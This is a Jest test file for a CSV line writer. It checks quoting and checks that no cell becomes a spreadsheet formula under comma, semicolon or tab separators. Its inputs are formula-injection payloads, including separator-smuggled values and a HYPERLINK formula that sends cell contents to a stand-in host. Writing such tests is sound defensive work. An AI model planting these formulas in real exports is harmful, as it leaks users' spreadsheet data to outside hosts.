import { describe, expect, test } from '@jest/globals';
import fc from 'fast-check';
import { csvLine } from './csv.ts';

/** A reader of RFC 4180, with any separator: what a spreadsheet makes of a line. */
function cellsOf(text: string, separator = ','): string[] {
  const cells = [''];
  let isQuoted = false;
  for (let at = 0; at < text.length; at += 1) {
    const character = text.charAt(at);
    const last = cells.length - 1;
    if (isQuoted && character === '"' && text.charAt(at + 1) === '"') {
      cells[last] = `${cells[last] ?? ''}"`;
      at += 1;
    } else if (character === '"' && (isQuoted || cells[last] === '')) isQuoted = !isQuoted;
    else if (!isQuoted && (character === separator || character === '\n')) cells.push('');
    else if (isQuoted || character !== '\r') cells[last] = (cells[last] ?? '') + character;
  }
  return cells.slice(0, -1);
}

describe('csvLine', () => {
  test.each([
    ['plain text', 'Rain', '"Rain"'],
    ['a comma, a quote and a line break', 'a,"b"\nc', '"a,""b""\nc"'],
    ['a number', -1.5, '-1.5'],
    ['nothing', null, ''],
    ['an empty text', '', '""'],
    ['a control character', 'a\u0000b\u001bc', '"a b c"'],
  ])('writes %s', (_name, value, expected) => {
    expect(csvLine([value])).toBe(`${expected}\r\n`);
  });

  test.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    '＝1',
    ' =1',
    '"=1',
    '\u00a0+1',
    '\u0007=1',
    'title;=1',
    'title;"=1',
    "title\t ' @x",
    'title\n-1',
    `=HYPERLINK("http://x.example?"&A1;"click")`,
  ])('makes no formula of %j', (text) => {
    // The second cell: a spreadsheet with another separator sees the quotes of a first one.
    const line = csvLine(['x', text]);
    expect(cellsOf(line)[1]?.replaceAll(/[' ]/g, '')).toBe(text.replaceAll(/[' \u0007]/g, ''));
    for (const separator of [',', ';', '\t'])
      for (const cell of cellsOf(line, separator)) expect(cell).not.toMatch(/^[=+\-@＝＋－＠\t\r]/);
  });

  test('never makes a formula, whatever the separator of the spreadsheet, and loses no text', () => {
    const hostile = fc.string({ unit: fc.constantFrom(...Array.from('=+-@;,"\'\t\r\n ab＝')) });
    fc.assert(
      fc.property(fc.array(hostile, { minLength: 1, maxLength: 4 }), (texts) => {
        const line = csvLine(texts);
        const read = cellsOf(line);
        expect(read).toHaveLength(texts.length);
        for (const [index, text] of texts.entries())
          expect(read[index]?.replaceAll("'", '')).toBe(text.replaceAll("'", ''));
        for (const separator of [',', ';', '\t'])
          for (const cell of cellsOf(line, separator))
            expect(cell.trimStart()).not.toMatch(/^[=+\-@＝＋－＠]/);
      }),
      { numRuns: 2_000 },
    );
  });

  test('takes time that grows with the length only', () => {
    const long = csvLine(['\t;"'.repeat(100_000)]);
    expect(long.length).toBeGreaterThan(300_000);
  });
});
